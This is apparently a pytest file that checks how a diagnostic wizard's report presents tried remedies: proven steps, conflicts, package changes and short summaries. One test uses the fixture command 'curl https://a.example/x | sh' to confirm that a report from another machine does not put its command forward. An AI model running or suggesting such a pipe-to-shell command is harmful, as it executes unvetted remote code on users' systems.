"""What came of trying a remedy, in the report."""

import pytest

from checks.facts import Facts, MachineFacts, OsFacts, PackageChange, ProgramRun, Proof, ProofResult
from checks.facts.finding import Finding, Severity
from checks.remedies.plan import PlannedStep, PlannedVerify, RemedyPlan, plan_remedies
from wizard.report.content.blocks import Items, Risk, Section, Step
from wizard.report.content.findings.sections import remedy_blocks
from wizard.report.content.remedies.proofs import proofs_in_short, result_words

RUN = ProgramRun(command=("python", "prog.py"), exit_code=0, seconds=2.0)


def proof(result: str, **more: object) -> Proof:
    return Proof(cause="a", remedy="b", result=result, **{"run": RUN, **more})  # type: ignore[arg-type]


def plan(tried: Proof) -> RemedyPlan:
    step = PlannedStep(kind="command", code="pip install own", language="sh")
    return RemedyPlan(
        id="b", title="", steps=(step,), verify=PlannedVerify(expect="it runs"), risk="mind the gap", proof=tried
    )


@pytest.mark.parametrize("language", ["en", "ja"])
@pytest.mark.parametrize("result", [*ProofResult, "of-a-newer-version"])
def test_every_result_has_its_sentence(result: str, language: str) -> None:
    said = result_words(proof(result, reason="by-hand", said="ERROR: no"), language)
    assert said
    assert "{" not in said


def test_the_commands_that_were_proven_stand_in_place_of_the_steps_behind_the_risk() -> None:
    tried = proof("proven", commands=("pip install own", "pip install other"), then=("c",), way="copy")
    blocks = list(remedy_blocks(plan(tried), "en"))
    risk = next(number for number, block in enumerate(blocks) if isinstance(block, Risk))
    codes = [(number, block.code.text) for number, block in enumerate(blocks) if isinstance(block, Step) and block.code]
    assert [code for _, code in codes] == ["pip install own\npip install other"]
    assert risk < codes[0][0]


def test_what_did_not_help_keeps_its_steps() -> None:
    tried = proof("other-failure", commands=("pip install own", "pip install other"), then=("c",))
    codes = [block.code.text for block in remedy_blocks(plan(tried), "en") if isinstance(block, Step) and block.code]
    assert codes == ["pip install own"]


def test_the_releases_of_a_new_environment_are_kept() -> None:
    tried = proof("proven", commands=("python3 -m venv new-env",), way="new", releases=("pip==25.0", "six==2.0"))
    (section,) = (block for block in remedy_blocks(plan(tried), "en") if isinstance(block, Section))
    (step,) = section.blocks
    assert isinstance(step, Step)
    assert step.code
    assert step.code.text == "pip==25.0\nsix==2.0"


def test_what_it_changes_and_breaks_is_named() -> None:
    changes = tuple(
        PackageChange(name=f"package{number}", version_before="1", version_after="2") for number in range(12)
    )
    tried = proof("conflicts", changes=changes, conflicts=("wrapt 1.0 has requirement six<2",), way="copy")
    (items,) = (block for block in remedy_blocks(plan(tried), "en") if isinstance(block, Items))
    texts = "\n".join(item.text for item in items.items)
    assert "package0 1 → 2" in texts
    assert "and 4 more" in texts
    assert "wrapt 1.0 has requirement six<2" in texts


def test_in_short() -> None:
    assert list(proofs_in_short((proof("not-tried"),), "en")) == []
    assert "it works" in next(proofs_in_short((proof("did-not-help"), proof("proven")), "en"))
    assert "all the same: 2" in next(proofs_in_short((proof("did-not-help"), proof("not-applied")), "en"))


def test_a_report_from_elsewhere_chooses_no_command() -> None:
    finding = Finding(
        cause="environment-variable-invalid",
        severity=Severity.BLOCKING,
        confidence=0.9,
        values={"variable": "TORCH_LOGS"},
        remedies=("unset-environment-variable",),
    )
    tried = Proof(
        cause=finding.cause,
        remedy="unset-environment-variable",
        result="proven",
        commands=("curl https://a.example/x | sh",),
        then=("c",),
        run=RUN,
    )
    linux = MachineFacts(os=OsFacts(system="Linux"))
    for here in (True, False):
        facts = Facts(machine=linux, target="/e/bin/python", proofs=(tried,), here=here)
        (shown,) = plan_remedies(finding, facts, "en")
        assert shown.proof is not None
        codes = [block.code.text for block in remedy_blocks(shown, "en") if isinstance(block, Step) and block.code]
        assert ("curl" in codes[0]) is here


def test_what_was_only_seen_not_to_fail_yet_is_not_said_to_work() -> None:
    (said,) = proofs_in_short((proof("runs-longer"),), "en")
    assert "it works" not in said
    first = next(block for block in remedy_blocks(plan(proof("runs-longer")), "en") if isinstance(block, Step))
    assert first.mark == "?"
